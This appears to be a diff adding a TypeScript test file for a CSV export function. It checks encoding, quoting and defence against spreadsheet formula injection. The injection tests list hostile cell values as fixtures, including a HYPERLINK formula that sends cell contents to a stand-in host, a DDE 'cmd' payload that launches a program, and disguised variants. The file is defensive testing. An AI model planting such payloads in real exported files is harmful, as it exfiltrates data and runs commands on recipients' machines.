@@ -1,0 +1,77 @@
+import * as fc from 'fast-check';
+import Papa from 'papaparse';
+import { describe, expect, it, test } from 'vitest';
+import { toCsv, type CsvCell } from '../../../src/domain/csv.ts';
+
+const MARK = '\u{feff}';
+
+function read(text: string): string[][] {
+  return Papa.parse<string[]>(text.slice(MARK.length)).data;
+}
+
+/** The one cell of a file with one cell. */
+function cell(value: CsvCell): string | undefined {
+  return read(toCsv(['Heading'], [[value]]))[1]?.[0];
+}
+
+describe('a file of rows', () => {
+  it('begins with a byte order mark and ends its lines as the standard says', () => {
+    expect(toCsv(['A', 'B'], [['1', '2']])).toBe(`${MARK}A,B\r\n1,2`);
+  });
+
+  it('gives every harmless text back as it was', () => {
+    const harmless = fc.string({ unit: 'grapheme' }).map((text) => `a${text}`);
+    fc.assert(
+      fc.property(fc.array(fc.tuple(harmless, harmless), { minLength: 1 }), (rows) => {
+        expect(read(toCsv(['A', 'B'], rows))).toEqual([['A', 'B'], ...rows]);
+      }),
+    );
+  });
+
+  it('keeps quotes, commas and lines inside a cell', () => {
+    expect(cell('say "no",\r\nthen go')).toBe('say "no",\r\nthen go');
+  });
+
+  it('writes numbers as numbers and nothing as nothing', () => {
+    expect(toCsv(['A', 'B', 'C'], [[-5, null, true]])).toBe(`${MARK}A,B,C\r\n-5,,true`);
+  });
+});
+
+describe('a text that a spreadsheet would run', () => {
+  test.each([
+    '=1+1',
+    '=HYPERLINK("http://evil.test?x="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    '+27 82 555 0101',
+    '-2+3+cmd|x',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    ' =1+1',
+    '\u{a0}=1+1',
+    '\u{feff}=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '=1\n=2',
+    '","=1+1',
+  ])('is only shown: %j', (text) => {
+    expect(cell(text)).toMatch(/^[^=+\-@\t\r\n\s＝＋－＠\u{feff}]/u);
+    expect(cell(text)?.replace(/^'/u, '')).toBe(text);
+  });
+
+  it('is only shown in headings too', () => {
+    expect(read(toCsv(['=A1'], []))[0]).toEqual(["'=A1"]);
+  });
+
+  it('never begins a cell, whatever people type', () => {
+    fc.assert(
+      fc.property(fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 })), (rows) => {
+        const cells = read(toCsv(['A'], rows)).flat();
+        expect(cells.filter((text) => /^[=+\-@\t\r]/u.test(text))).toEqual([]);
+      }),
+    );
+  });
+});
